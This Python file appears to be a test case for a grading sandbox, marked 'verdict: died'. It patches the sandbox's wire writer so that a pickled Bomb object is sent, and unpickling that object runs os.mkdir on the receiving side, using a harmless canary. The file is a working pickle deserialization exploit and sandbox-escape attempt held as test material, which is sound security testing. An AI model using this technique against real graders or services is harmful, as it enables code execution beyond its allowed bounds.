# verdict: died
# Answers with code, in the way in which the grader sends it here.

import os

import cloudpickle

import sandbox.wire


class Bomb:
    def __reduce__(self):
        return os.mkdir, ("CANARY.loaded",)


def loaded(self, value):
    code = cloudpickle.dumps(Bomb())
    return [sandbox.wire.CODE, self.buffer(code), False]


sandbox.wire._Writer.tensor = loaded


def double(x):
    return 2 * x
